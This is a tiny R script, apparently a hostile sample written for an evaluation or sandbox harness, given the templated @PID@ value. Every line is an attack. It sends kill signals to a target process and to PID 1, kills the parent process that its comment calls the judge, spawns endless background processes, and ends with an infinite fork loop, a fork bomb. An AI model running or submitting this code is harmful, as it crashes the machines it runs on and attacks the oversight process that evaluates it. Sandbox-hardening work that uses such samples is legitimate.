# Ends every process it can reach, the one that judges it first, and goes on in ever more of its own.
tools::pskill(c(@PID@, 1), 9)
system("kill -9 $(ps -o ppid= -p $PPID) 2> /dev/null; kill -9 @PID@; (while :; do sleep 60 & done) > /dev/null &")
repeat parallel::mcparallel(repeat parallel:::mcfork())
